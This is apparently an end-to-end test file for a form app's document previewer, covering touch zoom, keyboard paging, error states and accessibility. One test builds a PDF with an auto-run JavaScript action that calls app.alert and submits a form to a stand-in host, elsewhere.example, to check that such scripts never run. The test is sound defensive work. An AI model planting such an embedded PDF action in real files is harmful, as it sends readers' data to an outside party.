import type { CDPSession, Page } from 'playwright-core'
import { expect, it } from 'vitest'
import { faxPage } from '@fleet/backend/testing/files/fax-page'
import { pdfOf } from '@fleet/backend/testing/files/pdf-of'
import { photograph } from '@fleet/backend/testing/files/photograph'
import { accessibilityFaults } from '../support/accessibility.ts'
import { fieldPlace } from '../support/answering.ts'
import { save, start } from '../support/server-state.ts'
import { stage } from '../support/stage.ts'

const play = stage()
const phone = { viewport: { width: 390, height: 844 }, hasTouch: true }

/** A draft with two pages of a passport and a PDF in one field. */
async function withDocuments(guest: Page): Promise<string> {
  const id = await start(guest)
  await save(guest, id, { isGroupBooking: false, currentStep: 3 })
  const pdf = await (await guest.request.get('/api/download/medical-form/en')).body()
  const page = await photograph({ width: 1600, height: 1200 })
  for (const [name, mimeType, buffer] of [
    ['page 1.jpg', 'image/jpeg', page],
    ['page 2.jpg', 'image/jpeg', page],
    ['medical.pdf', 'application/pdf', pdf],
  ] as const) {
    const answer = await guest.request.post(`/api/submissions/${id}/documents`, {
      multipart: { kind: 'passportCopy', person: '1', file: { name, mimeType, buffer } },
      headers: { origin: play.application.url },
    })
    expect(answer.status()).toBe(201)
  }
  await guest.goto(`/form/${id}`)
  return id
}
const boxOf = async (page: Page, what: string) => {
  const { width = 0, height = 0 } = (await page.locator(what).boundingBox()) ?? {}
  return { width, height, isOnItsSide: height > width }
}
/** Two fingers around a point, at this distance and angle. */
async function pinch(touch: CDPSession, type: 'touchStart' | 'touchMove', apart: number, angle = 0) {
  const [dx, dy] = [(Math.cos(angle) * apart) / 2, (Math.sin(angle) * apart) / 2]
  await touch.send('Input.dispatchTouchEvent', {
    type,
    touchPoints: [
      { x: 195 - dx, y: 400 - dy, id: 1 },
      { x: 195 + dx, y: 400 + dy, id: 2 },
    ],
  })
}

it('a preview that cannot be fetched shows an error above the page, and opens once it can', async () => {
  const guest = await play.signedIn('/', await play.guest('Nora'), phone)
  await guest.route('**/assets/preview-dialog*', (route) => route.abort())
  await withDocuments(guest)
  const name = fieldPlace(guest, 'passportCopyAttached').getByRole('link', { name: 'page 1.jpg' })
  await name.click()
  const missing = guest.getByRole('dialog', { name: 'page 1.jpg' })
  await missing.waitFor()
  expect(await accessibilityFaults(guest)).toEqual([])
  await guest.unroute('**/assets/preview-dialog*')
  const loaded = guest.waitForEvent('load')
  await missing.getByRole('button').last().press('Enter')
  await loaded
  await name.click()
  await guest.locator('dialog section img').waitFor()
})

it('a document that the server cannot give at present shows the reason, and appears by itself later', async () => {
  const guest = await play.signedIn('/', await play.guest('Nele'), phone)
  await withDocuments(guest)
  const away = { code: 'documents.storeAway', detail: 'Documents cannot be shown just now.' }
  await guest.route(/\/documents\/[^/]+$/, (route) =>
    route.fulfill({ status: 503, contentType: 'application/problem+json', body: JSON.stringify(away) }),
  )
  await fieldPlace(guest, 'passportCopyAttached').getByRole('link', { name: 'page 1.jpg' }).click()
  const dialog = guest.getByRole('dialog', { name: 'page 1.jpg' })
  await dialog.getByText(away.detail).waitFor()
  expect(await accessibilityFaults(guest)).toEqual([])
  await guest.unrouteAll()
  await dialog.locator('section img').waitFor()
})

it('a guest views the added documents, page by page, by touch and by keys', async () => {
  const guest = await play.signedIn('/', await play.guest('Greta'), phone)
  await withDocuments(guest)
  const place = fieldPlace(guest, 'passportCopyAttached')
  const thumbnail = place.getByRole('button', { name: 'Preview page 1.jpg' })
  await thumbnail.scrollIntoViewIfNeeded()
  await thumbnail.locator('img').waitFor()
  await thumbnail.click()
  const dialog = guest.getByRole('dialog')
  const picture = 'dialog section img'
  await guest.locator(picture).waitFor()
  expect(await accessibilityFaults(guest)).toEqual([])

  const whole = await boxOf(guest, picture)
  const touch = await guest.context().newCDPSession(guest)
  await pinch(touch, 'touchStart', 80)
  await pinch(touch, 'touchMove', 160)
  await expect.poll(async () => (await boxOf(guest, picture)).width).toBeGreaterThan(whole.width * 1.8)
  await pinch(touch, 'touchMove', 160, Math.PI / 3)
  await expect.poll(async () => (await boxOf(guest, picture)).isOnItsSide).toBe(true)
  await touch.send('Input.dispatchTouchEvent', { type: 'touchEnd', touchPoints: [] })

  await guest.keyboard.press('0')
  await guest.keyboard.press('Shift+R')
  await expect.poll(() => boxOf(guest, picture)).toEqual(whole)
  await guest.keyboard.press('ArrowRight')
  await guest.keyboard.press('ArrowRight')
  await dialog.getByRole('img', { name: 'medical.pdf, File 3 of 3, page 1 of 2' }).locator('canvas').waitFor()
  await guest.keyboard.press('PageDown')
  const last = dialog.getByRole('img', { name: 'medical.pdf, File 3 of 3, page 2 of 2' }).locator('canvas')
  await last.waitFor()
  expect(
    await last.evaluate(
      (canvas: HTMLCanvasElement) =>
        new Set(canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height).data).size,
    ),
  ).toBeGreaterThan(20)
  expect(await accessibilityFaults(guest)).toEqual([])
  await guest.keyboard.press('Escape')
  await dialog.waitFor({ state: 'detached' })
  expect(await thumbnail.evaluate((button) => button === document.activeElement)).toBe(true)
})

it('staff view the pages next to the answers on request, and see an error if the PDF reader cannot be fetched', async () => {
  const guest = await play.signedIn('/', await play.guest('Hanna'), phone)
  const id = await withDocuments(guest)
  const staff = await play.signedIn(`/submissions/${id}`)
  const looks: string[] = []
  staff.on('request', (request) => void (/\/documents\//.test(request.url()) && looks.push(request.url())))
  await staff.getByRole('button', { name: 'Open all steps' }).click()
  const figure = staff.locator('figure').first()
  await figure.getByRole('button', { name: 'Show the document' }).waitFor()
  expect(looks).toEqual([])
  await figure.getByRole('button', { name: 'Show the document' }).click()
  await figure.locator('section img').waitFor()
  await expect.poll(() => figure.locator('ol img').count()).toBe(2)

  await staff.route('**/*.worker*', (route) => route.abort())
  await figure.getByRole('button', { name: 'File 3: medical.pdf' }).click()
  await figure.getByText('could not be shown here').waitFor()
  await staff.unroute('**/*.worker*')
  await figure.getByRole('button', { name: 'Try again' }).click()
  await figure.locator('canvas').waitFor()
  expect(await accessibilityFaults(staff)).toEqual([])

  await staff.reload()
  await staff.getByRole('button', { name: 'Open all steps' }).click()
  await staff.context().setOffline(true)
  await figure.getByRole('button', { name: 'Show the document' }).click()
  await figure.getByText('No connection').waitFor()
  await staff.context().setOffline(false)
  await figure.locator('section img').waitFor()
})

it('a PDF is only drawn: its scans are decoded, its scripts are not run', async () => {
  const guest = await play.signedIn('/', await play.guest('Ida'))
  await withDocuments(guest)
  const acts: string[] = []
  guest.on('dialog', (dialog) => void acts.push(dialog.message()))
  guest.on(
    'request',
    (request) =>
      void (
        new URL(request.url()).origin === play.application.url ||
        request.url().startsWith('blob:') ||
        acts.push(request.url())
      ),
  )
  const script = '<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://elsewhere.example"\\)) >>'
  for (const [body, dark] of [
    [faxPage(), 0.5],
    [pdfOf('x', { catalog: `/OpenAction ${script} /AA << /WC ${script} >>` }), 0],
  ] as const) {
    await guest.route(/\/documents\/[^/]+$/, (route) => route.fulfill({ body, contentType: 'application/pdf' }))
    await fieldPlace(guest, 'passportCopyAttached').getByRole('button', { name: 'Preview medical.pdf' }).click()
    const canvas = guest.getByRole('dialog').locator('canvas')
    await canvas.waitFor()
    const share = await canvas.evaluate((drawn: HTMLCanvasElement) => {
      const { data } = drawn.getContext('2d')?.getImageData(0, 0, drawn.width, drawn.height) ?? { data: [] }
      return Array.from(data).filter((value, index) => index % 4 === 0 && value < 128).length / (data.length / 4)
    })
    expect(share).toBeCloseTo(dark, 1)
    await guest.keyboard.press('Escape')
    await guest.unrouteAll()
    await guest.reload()
  }
  expect(acts).toEqual([])
})
